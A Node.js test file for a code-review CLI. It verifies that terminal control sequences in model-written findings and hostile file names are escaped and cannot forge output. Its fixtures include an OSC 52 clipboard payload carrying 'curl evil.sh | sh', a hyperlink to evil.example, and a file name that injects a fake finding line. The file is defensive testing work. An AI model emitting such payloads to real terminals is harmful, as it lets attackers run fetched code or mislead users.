// Output that cannot be forged: text from the code, its output, file names and the model never
// reaches the terminal with a control character in it, and a file name never splits a finding.
// The real CLI (dist/cli.js), a real git repository and the logging OpenAI-compatible server.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { criticAsync, gitIn } from './support/cli.mjs';
import { tempProject } from './support/engine.mjs';
import { reply, startOpenAiServer } from './support/openaiServer.mjs';

const server = await startOpenAiServer();
test.after(() => server.close());
const withModel = { OPENAI_BASE_URL: server.url, CRITIC_MODEL: 'test-model', XDG_CACHE_HOME: '/tmp/critic-test-cache' };

const ESC = '\x1b';
const osc52 = `${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\x07`;
const osc8 = `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`;
const eraseUp = `${ESC}[1A${ESC}[2K`;
const c1 = '\x9b31m';
const hostile = `divides by zero ${osc52}${osc8}${eraseUp}${c1}\u202eevil\r hidden`;
const source = 'def average(values):\n    total = sum(values)\n    return total / len(values)\n';
/** No control character but newline (and Critic's own colours, off here). */
const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

test('hostile model text in a finding reaches neither text nor JSON nor SARIF output as a control character', async (t) => {
  const p = tempProject({ 'stats.py': source });
  t.after(p.cleanup);
  server.reset();
  server.script(() => reply.findings([reply.finding('return total / len(values)', { message: hostile, severity: 'warning', confidence: 0.9 })]));
  const text = await criticAsync(['check', 'stats.py', '--no-exec'], { cwd: p.root, env: withModel });
  assert.equal(text.code, 0, text.stderr);
  assert.doesNotMatch(text.stdout, raw, JSON.stringify(text.stdout));
  assert.doesNotMatch(text.stderr, raw);
  // Shown, not interpreted: the user sees that something was there.
  assert.ok(text.stdout.includes('\\x1b]52;c;'), text.stdout);
  assert.ok(text.stdout.includes('\\u202e'), text.stdout);
  const line = text.stdout.split('\n').find((l) => l.includes('divides by zero'));
  assert.match(line, /^stats\.py:3:5: warning /, 'the finding stays on its own line');
  for (const format of ['json', 'sarif']) {
    const r = await criticAsync(['check', 'stats.py', '--no-exec', '--format', format], { cwd: p.root, env: withModel });
    assert.doesNotMatch(r.stdout, raw, `${format}: ${r.stdout}`);
    const doc = JSON.parse(r.stdout);
    const messages = format === 'json' ? doc.findings.map((f) => f.message) : doc.runs[0].results.map((x) => x.message.text);
    assert.ok(messages.some((m) => m.includes(osc52)), `${format} keeps the exact text, escaped by JSON`);
  }
});

test('a file name with a newline, quote or tab is quoted and never splits or forges a finding', async (t) => {
  const evil = 'x.py:1:1: error fake-rule all good\n"\tb.py';
  const p = tempProject({ [evil]: 'def f(:\n    pass\n' });
  t.after(p.cleanup);
  const r = await criticAsync(['check', '.', '--no-exec'], { cwd: p.root });
  assert.equal(r.code, 1, r.stderr);
  const lines = r.stdout.split('\n').filter(Boolean);
  const findings = lines.filter((l) => /: error /.test(l));
  assert.equal(findings.length, 1, r.stdout);
  assert.ok(findings[0].startsWith(`${JSON.stringify(evil)}:1:`), findings[0]);
  assert.doesNotMatch(r.stdout, /^x\.py:1:1/m, 'no forged line');
});

test('critic diff: exact changed lines for any file name, and an added line "++ x" does not start a file', async (t) => {
  const names = ['plain.py', 'new\nline.py', 'tab\there.py', 'quote"s.py', ' leading space.py'];
  const clean = ['def f(a):', '    return a', '', '', 'def g(b):', '    return b', ''].join('\n');
  const p = tempProject(Object.fromEntries(names.map((n) => [n, clean])));
  t.after(p.cleanup);
  gitIn(p.root, 'init', '-q');
  gitIn(p.root, 'add', '-A');
  gitIn(p.root, 'commit', '-qm', 'base');
  // Line 2 becomes `++ a` (git prints it as `+++ a`), line 6 gets a syntax error.
  const changed = clean.replace('    return a', '    return ++ a\n++ a').replace('    return b', '    return (b +');
  for (const n of names) writeFileSync(join(p.root, n), changed);
  const r = await criticAsync(['diff', '--no-exec', '--format', 'json'], { cwd: p.root });
  assert.equal(r.code, 1, r.stderr);
  const errors = JSON.parse(r.stdout).findings.filter((f) => f.level === 'error');
  assert.deepEqual([...new Set(errors.map((f) => f.file))].sort(), [...names].sort(), r.stdout);
});
